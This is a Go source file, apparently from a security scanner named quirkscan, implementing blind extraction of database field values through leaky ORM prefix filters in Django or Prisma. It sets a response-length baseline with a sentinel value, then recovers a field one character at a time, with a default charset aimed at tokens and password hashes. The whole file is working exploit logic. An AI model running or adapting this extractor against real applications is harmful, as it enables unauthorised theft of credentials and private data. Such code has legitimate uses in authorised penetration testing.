// Package extract implements character-by-character field disclosure
// through ORM prefix filters. The loop establishes a no-match baseline
// length, then greedily extends the extracted prefix: the first charset
// character whose response length differs from the baseline is accepted.
// A full charset pass with no match terminates the extraction.
//
// The loop is cancellable through its context; cancellation is polled
// between trials, so a probe already in flight completes first.
package extract

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"time"

	"github.com/quirkscan/quirkscan/pkg/probe"
)

// Sentinel is the implausible no-match value used to establish the
// baseline response length.
const Sentinel = "ZZZZNOTEXIST999"

// DefaultCharset covers lowercase alphanumerics, the usual content of
// leaked tokens and password hashes.
const DefaultCharset = "abcdefghijklmnopqrstuvwxyz0123456789"

// ErrNoBaseline is returned when the no-match baseline probe fails, which
// leaves the length oracle without a reference point.
var ErrNoBaseline = errors.New("extract: could not establish no-match baseline")

// Progress is emitted after every accepted character.
type Progress struct {
	// Extracted is the prefix recovered so far.
	Extracted string
	// Position is the 1-based position of the character just accepted.
	Position int
	// Probes counts requests sent so far, baseline included.
	Probes int
	Elapsed time.Duration
}

// Outcome is the final state of one extraction run.
type Outcome struct {
	// Value is the recovered field value. Empty means nothing matched;
	// render it as "(empty)".
	Value string
	// Cancelled is true when the run stopped on context cancellation
	// rather than charset exhaustion. Value then holds the partial prefix.
	Cancelled bool
	Probes    int
	Elapsed   time.Duration
}

// Config describes one extraction run.
type Config struct {
	// TargetURL is the endpoint carrying the leaking filter. Required.
	TargetURL string
	// Param names the filterable parameter. Required for every dialect
	// except Prisma, whose probes carry the filter in the JSON body.
	Param string
	// Field is the model field to extract. Required.
	Field string
	// Dialect selects the filter syntax. Defaults to Django.
	Dialect Dialect
	// Charset lists candidate characters in trial order. Defaults to
	// DefaultCharset.
	Charset string
	Sender  probe.Sender
	Logger  *slog.Logger
	// OnProgress, when set, receives an event per accepted character.
	OnProgress func(Progress)
}

func (c *Config) validate() error {
	if c.TargetURL == "" {
		return errors.New("extract: target URL is required")
	}
	if c.Field == "" {
		return errors.New("extract: target field is required")
	}
	if c.Dialect == "" {
		c.Dialect = DialectDjango
	}
	if c.Param == "" && c.Dialect != DialectPrisma {
		return fmt.Errorf("extract: parameter name is required for the %s dialect", c.Dialect)
	}
	if c.Sender == nil {
		return errors.New("extract: sender is required")
	}
	if c.Charset == "" {
		c.Charset = DefaultCharset
	}
	if c.Logger == nil {
		c.Logger = slog.Default()
	}
	return nil
}

// Runner drives one extraction run.
type Runner struct {
	cfg    Config
	probes int
	start  time.Time
}

// New validates cfg and returns a Runner.
func New(cfg Config) (*Runner, error) {
	if err := cfg.validate(); err != nil {
		return nil, err
	}
	return &Runner{cfg: cfg}, nil
}

// Run executes the extraction until the charset is exhausted or ctx is
// cancelled. The partial prefix survives cancellation.
func (r *Runner) Run(ctx context.Context) (*Outcome, error) {
	r.start = time.Now()
	r.probes = 0

	baselineLen := r.probeLen(ctx, Sentinel)
	if baselineLen < 0 {
		return nil, ErrNoBaseline
	}
	r.cfg.Logger.Info("no-match baseline established",
		"length", baselineLen, "dialect", string(r.cfg.Dialect), "field", r.cfg.Field)

	var extracted []byte
	found := true
	for found && ctx.Err() == nil {
		found = false
		for _, ch := range []byte(r.cfg.Charset) {
			if ctx.Err() != nil {
				break
			}
			trial := string(extracted) + string(ch)
			probeLen := r.probeLen(ctx, trial)
			// failed sends are inconclusive, never a match
			if probeLen < 0 || probeLen == baselineLen {
				continue
			}
			extracted = append(extracted, ch)
			r.emitProgress(string(extracted))
			found = true
			break
		}
	}

	out := &Outcome{
		Value:     string(extracted),
		Cancelled: ctx.Err() != nil,
		Probes:    r.probes,
		Elapsed:   time.Since(r.start),
	}
	if out.Cancelled {
		r.cfg.Logger.Info("extraction cancelled", "partial", out.Value, "probes", out.Probes)
	} else {
		r.cfg.Logger.Info("extraction complete", "value", out.Value, "probes", out.Probes)
	}
	return out, nil
}

// probeLen sends one trial and returns the response body length, or -1
// when the send fails.
func (r *Runner) probeLen(ctx context.Context, value string) int {
	r.probes++
	req, err := buildRequest(r.cfg.Dialect, r.cfg.TargetURL, r.cfg.Field, value)
	if err != nil {
		r.cfg.Logger.Debug("probe build failed", "error", err)
		return -1
	}
	res, err := r.cfg.Sender.Send(ctx, req)
	if err != nil {
		r.cfg.Logger.Debug("probe send failed", "error", err)
		return -1
	}
	return res.BodyLen()
}

func (r *Runner) emitProgress(extracted string) {
	if r.cfg.OnProgress == nil {
		return
	}
	r.cfg.OnProgress(Progress{
		Extracted: extracted,
		Position:  len(extracted),
		Probes:    r.probes,
		Elapsed:   time.Since(r.start),
	})
}
